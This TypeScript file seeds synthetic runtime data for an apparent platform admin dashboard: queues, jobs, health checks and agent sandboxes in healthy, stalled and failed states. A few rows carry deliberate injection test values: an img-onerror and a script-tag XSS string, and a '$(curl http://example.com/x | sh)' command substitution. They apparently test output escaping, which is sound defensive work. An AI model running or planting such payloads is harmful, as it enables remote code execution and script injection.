import type { RuntimeJob, RuntimeSandbox } from '@contract/platform/runtime'
import { chance, letters, pick, whole } from '../draw'
import { sentinels } from '../sentinels'
import { orgId, type PlatformCast } from './platform-cast'
import type { PlatformSeed } from './platform-world'

/**
 * What keeps happening in practice is told by how long ago it was, whenever one looks: `-90` is a minute and a half before now.
 * What a person did there has its instant.
 */
export type Ago = string
const ago = (seconds: number): Ago => `-${Math.max(1, Math.round(seconds))}`
const MINUTE = 60

/** How a queue lived in the last hours: its story ends at as many as wait in it now. */
export type QueueStory = 'steady' | 'spike' | 'empty'
export interface StoredQueue {
  name: string
  kind: string
  story: QueueStory
  usual: number
  workers: number | null
  worker_seen: Ago | null
  per_minute: number | null
}

const queues: readonly StoredQueue[] = [
  { name: 'agent-runs', kind: 'job', story: 'steady', usual: 18, workers: 12, worker_seen: ago(4), per_minute: 41 },
  { name: 'connector-deliveries', kind: 'job', story: 'spike', usual: 22, workers: 6, worker_seen: ago(3), per_minute: 55 },
  { name: 'e-mail-digests', kind: 'job', story: 'steady', usual: 20, workers: 2, worker_seen: ago(9), per_minute: 0 },
  { name: 'exports', kind: 'job', story: 'steady', usual: 4, workers: 0, worker_seen: ago(31 * MINUTE), per_minute: 0 },
  { name: 'schedules', kind: 'job', story: 'empty', usual: 0, workers: 3, worker_seen: ago(2), per_minute: 12 },
  { name: 'commerce-snapshots', kind: 'job', story: 'steady', usual: 2, workers: 1, worker_seen: ago(6), per_minute: 1 },
  { name: 'sandbox-starts', kind: 'sandbox', story: 'steady', usual: 7, workers: 8, worker_seen: ago(1), per_minute: 30 },
  { name: 'sandbox-starts-large', kind: 'sandbox', story: 'steady', usual: 3, workers: 2, worker_seen: ago(5), per_minute: 1 },
  {
    name: '<img src=x onerror=alert("queue")> with a name as long as anybody cares to type',
    kind: 'job',
    story: 'steady',
    usual: 1,
    workers: null,
    worker_seen: null,
    per_minute: null,
  },
]

/** How many wait, run, stopped, failed and ended in each queue, and for how many minutes the oldest waits. */
const crowds: Record<string, readonly [queued: number, running: number, stalled: number, failed: number, done: number, oldest: number]> = {
  'agent-runs': [18, 12, 0, 5, 60, 2],
  'connector-deliveries': [264, 6, 1, 14, 40, 9],
  'e-mail-digests': [24, 2, 6, 1, 20, 52],
  exports: [9, 0, 2, 3, 12, 33],
  schedules: [0, 1, 0, 0, 40, 0],
  'commerce-snapshots': [2, 1, 0, 2, 24, 4],
  'sandbox-starts': [7, 8, 0, 2, 30, 1],
  'sandbox-starts-large': [4, 1, 1, 1, 8, 19],
}
const jobKinds: Record<string, readonly string[]> = {
  'agent-runs': ['agent.run', 'agent.step'],
  'connector-deliveries': ['connector.deliver', 'connector.redeliver'],
  'e-mail-digests': ['digest.send'],
  exports: ['usage.export', 'audit.export'],
  schedules: ['schedule.fire'],
  'commerce-snapshots': ['snapshot.store', 'snapshot.product', 'snapshot.order'],
  'sandbox-starts': ['sandbox.start'],
  'sandbox-starts-large': ['sandbox.start'],
}
const errors = [
  'The other side closed the connection after 30 s.',
  'HTTP 503 from https://example.com/hooks/in',
  'The worker was stopped while it had this job.',
  'Out of memory: 2048 MB of 2048 MB.',
  'The token of this connector has expired.',
]

type Stored<T> = { [K in keyof T]: K extends `${string}_at` ? Ago | null : T[K] }
type StoredJob = Stored<RuntimeJob>
/** The name of an org stands with the org. */
type StoredSandbox = Stored<Omit<RuntimeSandbox, 'org_name'>>

/** Runtime checks by name: how they are now, and how often in a hundred they were not. */
const checks: readonly { name: string; state: string; latency_ms: number | null; checked: Ago; detail: string | null; trouble: number }[] =
  [
    { name: 'api', state: 'ok', latency_ms: 42, checked: ago(8), detail: null, trouble: 1 },
    { name: 'scheduler', state: 'ok', latency_ms: 18, checked: ago(11), detail: null, trouble: 2 },
    {
      name: 'sandbox-pool',
      state: 'degraded',
      latency_ms: 910,
      checked: ago(9),
      detail: '1 of 9 hosts does not answer: starts of large sandboxes wait.',
      trouble: 14,
    },
    { name: 'queue-broker', state: 'ok', latency_ms: 6, checked: ago(5), detail: null, trouble: 0 },
    {
      name: 'export-worker',
      state: 'down',
      latency_ms: null,
      checked: ago(20),
      detail: 'No beat for 31 minutes. Last words: heap limit reached.',
      trouble: 22,
    },
    { name: 'webhook-egress', state: 'ok', latency_ms: 230, checked: ago(14), detail: null, trouble: 6 },
    {
      name: 'model-gateway',
      state: 'warming',
      latency_ms: 1800,
      checked: ago(7),
      detail: 'A word that a later platform has: <b>warming</b>.',
      trouble: 4,
    },
    {
      name: 'object-store',
      state: 'ok',
      latency_ms: 31,
      checked: ago(26 * MINUTE),
      detail: 'Checked half an hour ago: the check itself may have stopped.',
      trouble: 1,
    },
  ]

/** Queues that spike, stall and have lost their worker, jobs of every state, sandboxes that fell silent. */
export const runtimeSeed: PlatformSeed = {
  tables: `
    CREATE TABLE runtime_checks (
      name TEXT PRIMARY KEY, state TEXT NOT NULL, latency_ms INTEGER, checked TEXT NOT NULL, detail TEXT, trouble INTEGER NOT NULL
    );
    CREATE TABLE runtime_queues (
      name TEXT PRIMARY KEY, kind TEXT NOT NULL, story TEXT NOT NULL, usual INTEGER NOT NULL, workers INTEGER, worker_seen TEXT,
      per_minute INTEGER
    );
    CREATE TABLE runtime_jobs (
      id TEXT PRIMARY KEY, queue TEXT, state TEXT NOT NULL, kind TEXT, org_id TEXT, workspace_id TEXT, attempts INTEGER, max_attempts INTEGER,
      queued_at TEXT, started_at TEXT, beat_at TEXT, finished_at TEXT, worker TEXT, error TEXT
    );
    CREATE INDEX runtime_jobs_queue ON runtime_jobs (queue, state);
    CREATE TABLE runtime_sandboxes (
      id TEXT PRIMARY KEY, org_id TEXT, workspace_id TEXT, agent_id TEXT, state TEXT NOT NULL, started_at TEXT, last_seen_at TEXT,
      memory_mb INTEGER, memory_limit_mb INTEGER, cpu_percent INTEGER, image TEXT, detail TEXT
    );
  `,
  rows: (cast) => ({
    runtime_checks: checks,
    runtime_queues: queues,
    runtime_jobs: [...provoking(cast), ...jobs(cast)],
    runtime_sandboxes: sandboxes(cast),
  }),
}

const blank = { started_at: null, beat_at: null, finished_at: null, worker: null, error: null } as const

/** One for each way a write can fail, so that it can be practised by hand. */
const provoking = (cast: PlatformCast): StoredJob[] =>
  Object.keys(sentinels).map((word, n) => ({
    ...blank,
    id: `job_practice_${word}`,
    queue: 'agent-runs',
    state: 'failed',
    kind: 'agent.run',
    org_id: orgId('acorn'),
    workspace_id: cast.workspaces.find(({ org_id }) => org_id === orgId('acorn'))?.id ?? null,
    attempts: 3,
    max_attempts: 3,
    queued_at: ago((200 + n) * MINUTE),
    started_at: ago((190 + n) * MINUTE),
    finished_at: ago((180 + n) * MINUTE),
    error: `Practise: ${sentinels[word]?.summary ?? word}`,
  }))

const jobs = (cast: PlatformCast): StoredJob[] => {
  const random = cast.random('runtime-jobs')
  const states = ['queued', 'running', 'stalled', 'failed', 'done'] as const
  return Object.entries(crowds).flatMap(([queue, counts]) =>
    states.flatMap((state, at) =>
      Array.from({ length: counts[at] ?? 0 }, (_, n): StoredJob => {
        const workspace = pick(random, cast.workspaces)
        const oldest = counts[5] * MINUTE
        // The first of those that wait is the oldest.
        const waits = state === 'queued' ? (n === 0 ? oldest : whole(random, 1, Math.max(2, oldest - 5))) : whole(random, 60, 20_000)
        const base: StoredJob = {
          ...blank,
          id: `job_practice_${queue.replaceAll('-', '_')}_${state}_${n + 1}`,
          queue,
          state,
          kind: pick(random, jobKinds[queue] ?? ['job']),
          org_id: workspace.org_id,
          workspace_id: workspace.id,
          attempts: state === 'queued' ? (chance(random, 0.15) ? 1 : 0) : whole(random, 1, 3),
          max_attempts: 3,
          queued_at: ago(waits),
        }
        if (state === 'queued') return base
        const started = state === 'stalled' ? whole(random, 900, 4000) : Math.max(2, Math.min(waits - 1, whole(random, 2, 240)))
        const worker = `${queue.slice(0, 12)}-${whole(random, 1, 6)}`
        const begun: StoredJob = { ...base, queued_at: ago(started + waits), started_at: ago(started), worker }
        if (state === 'running') return { ...begun, beat_at: ago(whole(random, 1, 12)) }
        if (state === 'stalled') return { ...begun, beat_at: ago(started - 20), error: 'No beat since: its worker may be gone.' }
        const ended = { ...begun, started_at: ago(waits), finished_at: ago(Math.max(1, waits - whole(random, 1, 50))) }
        return state === 'failed' ? { ...ended, error: pick(random, errors) } : ended
      }),
    ),
  )
}

const images = ['node-22', 'python-3.13', 'browser-2026.10', 'python-3.13-large']

const sandboxes = (cast: PlatformCast): StoredSandbox[] => {
  const random = cast.random('runtime-sandboxes')
  const crowd = cast.agents.slice(0, 150).map((agent, n): StoredSandbox => {
    const state = pick(random, ['running', 'running', 'running', 'idle', 'idle', 'starting', 'stopped', 'stopping'] as const)
    const limit = pick(random, [512, 1024, 2048])
    const live = state !== 'stopped'
    return {
      id: `sbx_${letters(random)}${n}`,
      org_id: agent.org_id,
      workspace_id: agent.workspace_id,
      agent_id: agent.id,
      state,
      started_at: ago(state === 'starting' ? whole(random, 1, 20) : whole(random, 60, 90_000)),
      last_seen_at: ago(live ? whole(random, 1, 25) : whole(random, 300, 40_000)),
      memory_mb: live ? whole(random, 60, Math.floor(limit * 0.8)) : null,
      memory_limit_mb: limit,
      cpu_percent: live ? whole(random, 0, 70) : null,
      image: pick(random, images),
      detail: null,
    }
  })
  const [first, second, third] = cast.agents
  const one = (word: string, rest: Partial<StoredSandbox>): StoredSandbox => ({
    id: `sbx_practice_${word}`,
    org_id: first?.org_id ?? orgId('acorn'),
    workspace_id: first?.workspace_id ?? null,
    agent_id: first?.id ?? null,
    state: 'running',
    started_at: ago(5 * 3600),
    last_seen_at: ago(4),
    memory_mb: 300,
    memory_limit_mb: 1024,
    cpu_percent: 12,
    image: 'node-22',
    detail: null,
    ...rest,
  })
  return [
    one('silent', { last_seen_at: ago(14 * MINUTE), detail: 'The host it is on does not answer.' }),
    one('unheard', { last_seen_at: ago(41 * MINUTE), agent_id: second?.id ?? null, org_id: second?.org_id ?? null }),
    one('full', { memory_mb: 1019, cpu_percent: 99, agent_id: third?.id ?? null }),
    one('failed', {
      state: 'failed',
      last_seen_at: ago(600),
      memory_mb: null,
      cpu_percent: null,
      detail: 'exit 137: killed, out of memory',
    }),
    one('slow_start', {
      state: 'starting',
      started_at: ago(11 * MINUTE),
      last_seen_at: ago(11 * MINUTE),
      memory_mb: null,
      image: 'python-3.13-large',
    }),
    one('script', { image: '<script>alert("image")</script>', detail: '$(curl http://example.com/x | sh)', org_id: orgId('script') }),
    one('unsaid', {
      org_id: null,
      workspace_id: null,
      agent_id: null,
      last_seen_at: null,
      started_at: null,
      memory_mb: null,
      memory_limit_mb: null,
      cpu_percent: null,
      image: null,
    }),
    ...crowd,
  ]
}
